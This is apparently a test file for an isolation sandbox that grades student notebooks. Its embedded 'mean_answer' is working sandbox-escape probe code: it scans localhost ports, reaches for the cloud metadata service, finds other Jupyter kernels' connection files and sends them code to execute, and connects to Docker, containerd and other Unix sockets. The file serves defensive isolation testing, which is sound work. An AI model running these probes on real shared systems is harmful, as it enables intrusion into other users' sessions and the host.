"""Reach another kernel, or the grader, over the network or a socket, and run code there.

It connects to every TCP port listening in its network namespace (/proc/net/tcp, tcp6: were
the namespace shared, every kernel's and the grader's ports would be listed), then to the
usual ports of 127.0.0.1 (ssh and the rest below 1024, Jupyter's, torch.distributed's 29500,
the start of the ephemeral range; about 3,300 ports, 1.5 s at most), to the host's usual
addresses and the cloud metadata service; looks for Jupyter connection files
(/tmp/parlab-sandbox-*/ipc/kernel.json, the Jupyter runtime folders of the learner and of
/root, /run/user) and, with jupyter_client, sends an `execute_request` to every kernel but its
own; connects to every Unix socket listed in /proc/net/unix (abstract ones included) and found
under /tmp and /run (the Docker and containerd sockets among them). Every connection that is
accepted by a process outside its sandbox (every process it sees is in it: a socket none of
them holds is another's), and every kernel that answers, is printed after a marker. Its
answers stay blank.

What must stop it: the sandbox's own network namespace (loopback only, no route out: no
other kernel's port and no abstract Unix socket of the grader's is there), its private /tmp
(no other kernel's connection file or ipc socket: only its own), and its mount list (no
/run of the host). It must score 0, and every other student keeps the score
expected_class() gives.
"""

ANSWERS = {"mean_answer": r'''
import errno
import glob
import os
import select
import socket
import time

MARK = "PWN" + "ED-reach_kernel"  # built here, so that the notebook itself never holds it
reached, tries = [], [0]

# what is this kernel's own: its connection file, its ipc sockets, its forkserver
try:
    from ipykernel.connect import get_connection_file
    own_file = os.path.realpath(get_connection_file())
except Exception:  # noqa: BLE001 - not in a kernel
    own_file = ""
own_dir = os.path.dirname(own_file)
try:
    from multiprocessing import forkserver
    own_server = forkserver._forkserver._forkserver_address or ""
except Exception:  # noqa: BLE001
    own_server = ""
own_server = own_server.lstrip("\0") if isinstance(own_server, str) else ""


def socket_owners():
    """socket inode -> pid, for every process this one can see: its sandbox's own."""
    owners = {}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                for fd in os.listdir(f"/proc/{pid}/fd"):
                    link = os.readlink(f"/proc/{pid}/fd/{fd}")
                    if link.startswith("socket:["):
                        owners[int(link[8:-1])] = int(pid)
            except (OSError, ValueError):
                pass
    return owners


def tcp_inodes():
    """listening TCP port -> socket inode (/proc/net/tcp, tcp6: this network namespace)."""
    found = {}
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as f:
                for line in f.readlines()[1:5001]:
                    parts = line.split()
                    if len(parts) > 9 and parts[3] == "0A":
                        found[int(parts[1].rsplit(":", 1)[1], 16)] = int(parts[9])
        except (OSError, ValueError):
            pass
    return found


def whose(inode, owners):
    """'own (pid N: cmdline)' for a socket of a process of this sandbox, else None."""
    pid = owners.get(inode)
    if pid is None:
        return None
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            cmd = f.read().replace(b"\0", b" ").decode(errors="replace")[:80]
    except OSError:
        cmd = "?"
    return f"own (pid {pid}: {cmd})"


def connected_to_itself(s):
    """TCP's simultaneous open: a port of the ephemeral range may connect to itself."""
    try:
        return s.getsockname()[:2] == s.getpeername()[:2]
    except OSError:
        return True  # not connected after all


def scan(host, family, ports, deadline):
    """Non-blocking connects, 512 at a time; the ports that accepted."""
    accepted, ports = [], list(ports)
    while ports and time.monotonic() < deadline:
        batch, ports = ports[:512], ports[512:]
        pending = {}
        for port in batch:
            s = socket.socket(family, socket.SOCK_STREAM)
            s.setblocking(False)
            tries[0] += 1
            err = s.connect_ex((host, port))
            if err == 0:
                if not connected_to_itself(s):
                    accepted.append(port)
                s.close()
            elif err in (errno.EINPROGRESS, errno.EAGAIN):
                pending[s] = port
            else:
                s.close()
        end = min(deadline, time.monotonic() + 0.05)
        while pending and time.monotonic() < end:
            _, ready, _ = select.select([], list(pending), [], max(0.0, end - time.monotonic()))
            for s in ready:
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0 and (
                        not connected_to_itself(s)):
                    accepted.append(pending[s])
                s.close()
                del pending[s]
        for s in pending:
            s.close()
    return accepted


def listening():
    """The TCP ports listening in this network namespace."""
    return set(tcp_inodes())


# every port listed as listening, then the usual ones: ssh and the rest below 1024,
# Jupyter's 8888.., torch.distributed's 29500.., and the start of the ephemeral range
usual = [*range(1, 1025), *range(8000, 9100), *range(29400, 29600), *range(32768, 33768)]
ports = list(dict.fromkeys([*sorted(listening()), *usual]))
deadline = time.monotonic() + 1.5
for host, family in (("127.0.0.1", socket.AF_INET), ("::1", socket.AF_INET6)):
    try:
        for port in scan(host, family, ports if family == socket.AF_INET else
                         sorted(listening()), deadline + 0.3):
            reached.append(("tcp", f"{host}:{port}", tcp_inodes().get(port)))
    except OSError:
        pass
for host, port in (("169.254.169.254", 80), ("10.0.2.2", 22), ("172.17.0.1", 22),
                   ("192.168.0.1", 80), ("8.8.8.8", 53)):
    for port_ in scan(host, socket.AF_INET, [port], time.monotonic() + 0.3):
        reached.append(("tcp", f"{host}:{port_}", None))

# Jupyter connection files: every kernel but this one
files = set(glob.glob("/tmp/parlab-sandbox-*/ipc/*.json") + glob.glob("/tmp/*/ipc/*.json")
            + glob.glob("/tmp/*.json") + glob.glob("/run/user/*/jupyter/*.json")
            + glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/*.json"))
            + glob.glob("/root/.local/share/jupyter/runtime/*.json")
            + glob.glob("/home/*/.local/share/jupyter/runtime/*.json"))
try:
    from jupyter_core.paths import jupyter_runtime_dir
    files.update(glob.glob(os.path.join(jupyter_runtime_dir(), "*.json")))
except Exception:  # noqa: BLE001
    pass
others = sorted(f for f in files if os.path.realpath(f) != own_file)[:20]
for path in others:
    tries[0] += 1
    try:
        from jupyter_client import BlockingKernelClient
        kc = BlockingKernelClient(connection_file=path)
        kc.load_connection_file()
        kc.start_channels()
        try:
            msg_id = kc.execute(f"print({MARK!r})")
            reply = kc.get_shell_msg(timeout=1)
            if reply.get("parent_header", {}).get("msg_id") == msg_id:
                reached.append(("kernel", f"{path} ran code: {reply['content'].get('status')}",
                                None))
        finally:
            kc.stop_channels()
    except Exception:  # noqa: BLE001 - not a kernel, or no answer
        pass

# Unix sockets: every one this network namespace lists, and those on disk
sockets, unix_inodes = set(), {}
try:
    with open("/proc/net/unix") as f:
        for line in f.readlines()[1:2001]:
            parts = line.split()
            if len(parts) >= 8:
                sockets.add(parts[7])
                unix_inodes[parts[7]] = int(parts[6])
except (OSError, ValueError):
    pass
for pattern in ("/tmp/**", "/run/**", "/var/run/*.sock", "/run/*.sock", "/run/*/*.sock"):
    for path in glob.glob(pattern, recursive=True)[:2000]:
        try:
            if os.path.exists(path) and (os.stat(path).st_mode & 0o170000) == 0o140000:
                sockets.add(path)
        except OSError:
            pass
for name in sorted(sockets)[:500]:
    abstract = name.startswith("@")
    if name.lstrip("@") == own_server or (own_dir and name.startswith(own_dir + "/")):
        continue  # this kernel's own
    address = "\0" + name[1:] if abstract else name
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(0.2)
    tries[0] += 1
    try:
        s.connect(address)
        reached.append(("unix", name, unix_inodes.get(name)))
    except OSError:
        pass
    finally:
        s.close()

# What answered and belongs to a process of this sandbox (every process it can see is one)
# is its own; anything else is another's: the grader's, another kernel's, the host's.
owners = socket_owners()
foreign = 0
for kind, what, inode in reached:
    mine = whose(inode, owners) if inode is not None else None
    if mine:
        print(f"reach_kernel: {kind} {what} answered: {mine}")
    else:
        foreign += 1
        print(f"{MARK} reached {kind} {what}")
print(f"reach_kernel: {tries[0]} connections tried, {len(others)} connection files of other "
      f"kernels, {len(sockets)} unix sockets, {len(reached)} answered, {foreign} not its own")
'''}
MAX_SECONDS = 40
